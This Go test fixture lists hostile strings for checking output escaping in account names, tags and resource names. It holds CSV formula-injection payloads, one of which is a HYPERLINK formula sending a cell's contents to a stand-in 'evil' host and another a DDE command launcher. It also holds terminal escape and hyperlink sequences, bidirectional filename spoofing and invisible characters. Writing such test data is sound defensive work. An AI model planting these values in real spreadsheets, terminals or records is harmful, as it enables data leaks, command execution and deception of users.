// Package hostiletext holds, for tests, what a member account can put in an
// account name, a tag or a resource name, each aimed at one output kind:
// spreadsheet formulas (CSV), terminal escapes (a screen clear, an OSC-8
// hyperlink), line breaks, bidirectional and invisible characters (HTML,
// terminals), C1 controls and invalid UTF-8.
package hostiletext

// Strings are the hostile values; tests put them in every field an output
// shows.
var Strings = []string{
	`=HYPERLINK("http://evil/?d="&A1,"open")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1)`,
	"\tTAB",
	"\rCR",
	"\x1b[2J\x1b[H fake row",
	"a\nb\nc",
	"\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
	"\u202eevil.exe",
	"\u2066gpj.\u2069exe \u202a\u202b\u202c\u202d\u2067\u2068\u200e\u200f\u061c",
	"zero\u200bwidth\u200c\u200d\ufeff\u2028\u2029",
	"\u0085\u009b31m",
	"\xff\xfe",
}
